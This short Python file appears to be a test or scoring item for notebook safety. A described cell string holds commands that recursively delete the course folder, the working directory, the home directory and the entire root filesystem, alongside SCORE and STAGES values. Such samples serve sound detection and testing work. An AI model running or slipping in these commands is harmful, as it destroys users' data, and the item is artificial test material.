"""Removes every file that it can reach, and its own folder under its feet."""

CELL = """
import os, shutil
shutil.rmtree("$COURSE", ignore_errors=True)
shutil.rmtree(os.getcwd(), ignore_errors=True)
!rm -rf .* * $COURSE $HOME 2>/dev/null; rm -rf --no-preserve-root / 2>/dev/null
"""
SCORE = 9
STAGES = 2
